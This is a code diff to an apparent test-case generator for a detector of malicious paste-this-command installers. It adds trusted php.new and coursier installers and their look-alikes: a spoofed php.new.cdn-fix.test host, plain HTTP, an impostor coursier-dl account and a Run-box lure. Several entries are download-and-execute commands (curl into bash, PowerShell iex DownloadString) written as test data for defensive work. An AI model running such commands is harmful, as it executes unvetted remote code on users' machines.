@@ -15,6 +15,9 @@ Principles:
   package account (an affix: go-, -project, -lang, -io, -public; the name run across the dot of
   its domain: vel.so for velso). Look-alikes: another name, a forum on the project's domain,
   a check page, an unrelated page, a download host's name (get-x), the Run box.
+- `named-installer`: two installers the trust list names from their projects' own pages
+  (php.new for Laravel, coursier's releases for Scala), whose hosts no name ties to those pages.
+  Look-alikes: the host inside another, plain HTTP, another account, the Run box.
 - `own-page-shape`: installers written the way their own page writes them (the user's $SHELL,
   settings in front of bash -c, a script saved to /tmp and run from there): not blocked from
   their own page; the same shapes from a stranger's page, or with a hidden name, stay flagged.
@@ -117,6 +120,23 @@ def same_name() -> list[dict[str, str]]:
     return out
 
 
+def named_installers() -> list[dict[str, str]]:
+    """Installers whose host no name ties to the page documenting them (trust.yaml, facts from
+    the projects' own installation pages), quoted anywhere; and their look-alikes."""
+    php = '/bin/bash -c "$(curl -fsSL {})"'
+    cs = "curl -fL {} | gzip -d > cs && chmod +x cs && ./cs setup"
+    blog = "https://blog.example.org/2026/01/new-mac-dev-setup"
+    return [
+        ok("trusted-php-1", php.format("https://php.new/install/linux/8.3"), "linux", blog),
+        ok("trusted-php-2", "iex ((New-Object System.Net.WebClient).DownloadString('https://php.new/install/windows/8.3'))", "windows", blog),
+        ok("trusted-cs-1", cs.format("https://github.com/coursier/coursier/releases/latest/download/cs-aarch64-apple-darwin.gz"), "macos", blog),
+        lure("trusted-php-1", php.format("https://php.new.cdn-fix.test/install/linux/8.3"), "flagged", "T1036", "linux", blog),
+        lure("trusted-php-2", php.format("http://php.new/install/linux/8.3"), "flagged", "T1557", "linux", blog),
+        lure("trusted-php-3", php.format("https://php.new/install/linux/8.3"), "malicious", "T1204.004", "linux", CHECK, "run_dialog"),
+        lure("trusted-cs-1", cs.format("https://github.com/coursier-dl/coursier/releases/latest/download/cs-x86_64-pc-linux.gz"), "flagged", "T1036", "linux", blog),
+    ]  # fmt: skip
+
+
 def own_page_shapes() -> list[dict[str, str]]:
     mamba = "https://wren.readthedocs.io/en/latest/installation/wren-installation.html"
     metrics = "https://docs.wrenmetrics.com/agent/install/ubuntu/"
@@ -198,7 +218,14 @@ def storage_keys() -> list[dict[str, str]]:
 
 
 def build() -> list[dict[str, str]]:
-    cases = [*same_name(), *own_page_shapes(), *sign_in_examples(), *write_ups(), *storage_keys()]
+    cases = [
+        *same_name(),
+        *named_installers(),
+        *own_page_shapes(),
+        *sign_in_examples(),
+        *write_ups(),
+        *storage_keys(),
+    ]
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
     return cases
